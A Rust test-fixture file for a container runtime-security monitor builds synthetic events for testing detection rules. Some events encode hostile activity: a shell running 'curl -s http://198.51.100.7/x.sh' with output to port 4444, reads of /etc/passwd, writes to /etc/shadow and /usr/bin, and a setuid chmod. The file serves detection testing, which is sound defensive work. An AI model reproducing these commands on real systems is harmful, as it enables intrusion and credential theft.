//! Events built in memory for rule tests: named fixtures with every field a rule may read
//! ([`fixture`]), all in one container of an ECS task at [`T0`].

use tasksentry::event::{
    Ancestor, Collector, Container, EcsContext, Event, EventType, Fd, FdKind, Internal, Process,
    StdFd, Timestamp,
};

/// 2026-01-01T00:00:10Z.
const T0: u64 = 1_767_225_610_000_000_000;

fn anc(pid: i32, name: &str, exe: &str, args: &[&str]) -> Ancestor {
    Ancestor {
        pid,
        name: name.into(),
        exe: Some(exe.into()),
        exepath: Some(format!("/usr/bin/{name}")),
        args: args.iter().map(|s| s.to_string()).collect(),
    }
}

fn container() -> Container {
    Container {
        id: "abc123def456".into(),
        name: Some("web".into()),
        image: Some("public.ecr.aws/nginx/nginx:1.27".into()),
        image_digest: Some("sha256:feed".into()),
        start_time: Some(Timestamp(T0 - 60_000_000_000)),
        ecs: Some(EcsContext {
            cluster: Some("arn:aws:ecs:eu-west-1:123456789012:cluster/prod".into()),
            task_arn: Some("arn:aws:ecs:eu-west-1:123456789012:task/prod/0a1b2c".into()),
            task_id: Some("0a1b2c".into()),
            family: Some("shop".into()),
            revision: Some("7".into()),
            availability_zone: Some("eu-west-1a".into()),
            launch_type: Some("FARGATE".into()),
            container_arn: None,
        }),
        ..Container::default()
    }
}

fn base(t: EventType, c: Collector) -> Event {
    let mut e = Event::new(t, c);
    e.evt.time = Timestamp(T0);
    e.evt.num = 42;
    e
}

/// `nginx -> sh -> curl` exec in a container: the ancestors example of Falco's rule language
/// (`proc.aname[1]` is `sh`, `proc.aname[2]` is `nginx`).
pub fn curl() -> Event {
    let mut e = base(EventType::Execve, Collector::Procscan);
    e.proc = Some(Box::new(Process {
        pid: 300,
        ppid: 200,
        start_ticks: 1,
        start_time: Some(Timestamp(T0 - 2_000_000_000)),
        name: "curl".into(),
        exe: Some("curl".into()),
        exepath: Some("/usr/bin/curl".into()),
        args: vec!["-s".into(), "http://198.51.100.7/x.sh".into()],
        cwd: Some("/tmp".into()),
        uid: Some(0),
        euid: Some(0),
        gid: Some(0),
        egid: Some(0),
        user: Some("root".into()),
        user_home: Some("/root".into()),
        user_shell: Some("/bin/sh".into()),
        group: Some("root".into()),
        loginuid: Some(-1),
        cap_effective: Some((1 << 13) | (1 << 21)),
        cap_permitted: Some((1 << 13) | (1 << 21)),
        cap_inheritable: Some(0),
        tracer_pid: Some(0),
        tty: Some(0),
        sid: Some(100),
        pgid: Some(300),
        stdin: Some(StdFd {
            kind: FdKind::Pipe,
            target: Some("pipe:[1]".into()),
            peer: None,
        }),
        stdout: Some(StdFd {
            kind: FdKind::Ipv4,
            target: Some("socket:[2]".into()),
            peer: Some("198.51.100.7:4444".into()),
        }),
        stderr: Some(StdFd {
            kind: FdKind::Tty,
            target: Some("/dev/pts/0".into()),
            peer: None,
        }),
        env: vec![
            ("HOME".into(), "/root".into()),
            ("PATH".into(), "/usr/bin:/bin".into()),
        ],
        exe_ctime: Some(Timestamp(T0 - 10_000_000_000)),
        exe_mtime: Some(Timestamp(T0 - 20_000_000_000)),
        exe_written_after_start: Some(false),
        ancestors: vec![
            anc(
                200,
                "sh",
                "/bin/sh",
                &["-c", "curl -s http://198.51.100.7/x.sh"],
            ),
            anc(100, "nginx", "nginx", &["-g", "daemon off;"]),
        ],
        ..Process::default()
    }));
    e.container = Some(Box::new(container()));
    e
}

/// `cat /etc/passwd` as an open-for-read event.
pub fn open_passwd() -> Event {
    let mut e = base(EventType::Open, Collector::Fswatch);
    e.proc = Some(Box::new(Process {
        pid: 400,
        ppid: 200,
        name: "cat".into(),
        exe: Some("cat".into()),
        exepath: Some("/bin/cat".into()),
        args: vec!["/etc/passwd".into()],
        euid: Some(1000),
        user: Some("app".into()),
        ancestors: vec![anc(200, "bash", "bash", &[])],
        ..Process::default()
    }));
    e.container = Some(Box::new(container()));
    e.fd = Some(Box::new(Fd {
        num: Some(3),
        kind: Some(FdKind::File),
        name: Some("/etc/passwd".into()),
        open_read: Some(true),
        open_write: Some(false),
        ..Fd::default()
    }));
    e
}

/// A write below /usr/bin by a process named `my apt`.
pub fn write_bin() -> Event {
    let mut e = open_passwd();
    if let Some(p) = e.proc.as_mut() {
        p.name = "my apt".into();
    }
    e.fd = Some(Box::new(Fd {
        num: Some(5),
        kind: Some(FdKind::File),
        name: Some("/usr/bin/ls".into()),
        open_read: Some(false),
        open_write: Some(true),
        ..Fd::default()
    }));
    e
}

/// A file event that could not be attributed to a process.
pub fn file_noproc() -> Event {
    let mut e = base(EventType::Open, Collector::Fswatch);
    e.container = Some(Box::new(container()));
    e.fd = Some(Box::new(Fd {
        kind: Some(FdKind::File),
        name: Some("/etc/shadow".into()),
        open_write: Some(true),
        open_read: Some(false),
        ..Fd::default()
    }));
    e
}

/// An outbound TCP connection from python3 to 198.51.100.7:443.
pub fn connect() -> Event {
    let mut e = base(EventType::Connect, Collector::Sockets);
    e.proc = Some(Box::new(Process {
        pid: 500,
        ppid: 1,
        name: "python3".into(),
        exe: Some("python3".into()),
        args: vec!["-c".into(), "import socket".into()],
        ancestors: vec![anc(1, "pause", "/pause", &[])],
        ..Process::default()
    }));
    e.container = Some(Box::new(container()));
    e.fd = Some(Box::new(Fd {
        num: Some(7),
        kind: Some(FdKind::Ipv4),
        name: Some("10.0.0.5:40000->198.51.100.7:443".into()),
        l4proto: Some("tcp".into()),
        cip: Some("10.0.0.5".parse().expect("ip")),
        cport: Some(40000),
        sip: Some("198.51.100.7".parse().expect("ip")),
        sport: Some(443),
        local_is_client: Some(true),
        ..Fd::default()
    }));
    e
}

/// A bash on the host (no container) with a terminal.
pub fn host_bash() -> Event {
    let mut e = base(EventType::Execve, Collector::Procscan);
    e.proc = Some(Box::new(Process {
        pid: 10,
        ppid: 1,
        name: "bash".into(),
        args: vec![],
        tty: Some(34816),
        sid: Some(10),
        pgid: Some(10),
        ..Process::default()
    }));
    e
}

/// A `tasksentry` internal event.
pub fn internal() -> Event {
    let mut e = base(EventType::Tasksentry, Collector::Monitor);
    e.internal = Some(Box::new(Internal {
        kind: "processes_missed".into(),
        message: "3 processes were missed".into(),
        count: Some(3),
    }));
    e
}

/// A chmod event (the collector sets the mode argument).
pub fn chmod() -> Event {
    let mut e = base(EventType::Chmod, Collector::Fswatch);
    e.evt.args = vec![("mode".into(), "S_ISUID|S_IXUSR".into())];
    e.container = Some(Box::new(container()));
    e.fd = Some(Box::new(Fd {
        kind: Some(FdKind::File),
        name: Some("/tmp/x".into()),
        mode: Some(0o4755),
        ..Fd::default()
    }));
    e
}

/// A fixture by name.
pub fn fixture(name: &str) -> Event {
    match name {
        "curl" => curl(),
        "open_passwd" => open_passwd(),
        "write_bin" => write_bin(),
        "file_noproc" => file_noproc(),
        "connect" => connect(),
        "host_bash" => host_bash(),
        "internal" => internal(),
        "chmod" => chmod(),
        other => panic!("unknown fixture {other}"),
    }
}
